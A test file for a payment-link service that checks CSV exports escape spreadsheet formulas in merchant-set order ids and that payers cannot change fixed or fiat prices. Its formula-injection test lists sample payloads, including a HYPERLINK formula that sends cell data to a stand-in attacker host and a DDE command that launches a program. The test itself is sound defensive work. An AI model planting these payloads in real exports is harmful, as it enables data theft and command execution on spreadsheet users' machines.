import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { payerPost, sessionIdOf } from "../../links/support.js";
import { call, startTestService, type TestService } from "../../support/harness.js";
import { registerOwner } from "../../team/support.js";

// Outside review of issue #41: a hostile merchant's (or a compromised integration's) link fields
// end up in every session the link opens, and so in the CSV export an accountant opens in a
// spreadsheet: a formula in `orderIdPrefix` must stay text. A fiat link's session carries its
// price fields, and a payer cannot set the amount of a fixed or fiat link.
let svc: TestService;
let owner: Awaited<ReturnType<typeof registerOwner>>;

const TRC = "USDT-TRC20";

beforeAll(async () => {
  svc = await startTestService({ env: { RATE_LIMIT_ENABLED: "false", FIXED_RATES: "EUR=1.08" } });
  owner = await registerOwner(svc);
}, 60_000);
afterAll(async () => {
  await svc?.close();
});

async function createLink(body: Record<string, unknown>) {
  const r = await call(svc.urls.sandbox, "/api/v1/public/payment-links", {
    headers: owner.sandboxApi,
    json: { title: "Hostile", currencyTypes: [TRC], ...body },
  });
  expect(r.status, r.text).toBe(201);
  return r.body.data.id as string;
}

async function session(id: string) {
  const r = await call(svc.urls.sandbox, `/checkout/session/${id}`, { headers: owner.sandboxApi });
  expect(r.status, r.text).toBe(200);
  return r.body.data;
}

describe("CSV export of sessions opened by a link", () => {
  it("an order id starting with a formula is exported as text", async () => {
    const prefixes = [
      '=HYPERLINK("https://evil.example/?"&A1,"x")-',
      "+cmd|' /C calc'!A0-",
      "@SUM(1+1)-",
      "-2+3-",
    ];
    const expected: string[] = [];
    for (const orderIdPrefix of prefixes) {
      const id = await createLink({ amount: 1, orderIdPrefix });
      sessionIdOf(await payerPost(svc.urls.sandbox, id, { currencyType: TRC }));
      expected.push(`${orderIdPrefix}1`);
    }
    const res = await fetch(`${svc.urls.sandbox}/api/v1/public/exports/transactions.csv`, {
      headers: owner.sandboxApi,
    });
    const csv = await res.text();
    expect(res.status, csv).toBe(200);
    for (const line of csv.split("\r\n").slice(1)) {
      for (const cell of line.match(/("([^"]|"")*"|[^,]*)/g) ?? []) {
        const value = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
        expect(/^[=+@]/.test(value), `a cell starts a formula: ${value}`).toBe(false);
        if (value.startsWith("-")) expect(/^-?\d+(\.\d+)?$/.test(value), value).toBe(true);
      }
    }
    for (const e of expected) expect(csv).toContain(`'${e}`.replaceAll('"', '""'));
  });
});

describe("a payer cannot change the price of a fixed or fiat link", () => {
  it("an `amount` posted to a fixed-amount link is ignored", async () => {
    const id = await createLink({ amount: 25 });
    const sid = sessionIdOf(await payerPost(svc.urls.sandbox, id, { currencyType: TRC, amount: "0.000001" }));
    expect((await session(sid)).amount).toBe(25);
  });

  it("a fiat link's session is the price at the locked rate, rounded up, with its price fields", async () => {
    const id = await createLink({ priceAmount: "9.999999", priceCurrency: "EUR" });
    const sid = sessionIdOf(await payerPost(svc.urls.sandbox, id, { currencyType: TRC, amount: "0.000001" }));
    const s = await session(sid);
    // 9.999999 × 1.08 = 10.79999892 → 10.799999 (rounded up, never down)
    expect(s.amount).toBe(10.799999);
    expect(s).toMatchObject({
      priceAmount: 9.999999,
      priceCurrency: "EUR",
      exchangeRate: "1.08",
      rateSource: "fixed",
    });
  });

  it("a fiat link in a currency the source does not quote is refused at creation", async () => {
    const r = await call(svc.urls.sandbox, "/api/v1/public/payment-links", {
      headers: owner.sandboxApi,
      json: { title: "x", priceAmount: 1, priceCurrency: "XAU", currencyTypes: [TRC] },
    });
    expect(r.status, r.text).toBe(400);
    for (const priceAmount of ["1e2", "-1", "0", "0.0000001", 1e-7]) {
      const bad = await call(svc.urls.sandbox, "/api/v1/public/payment-links", {
        headers: owner.sandboxApi,
        json: { title: "x", priceAmount, priceCurrency: "EUR", currencyTypes: [TRC] },
      });
      expect(bad.status, `${priceAmount}: ${bad.text}`).toBe(400);
    }
  });
});
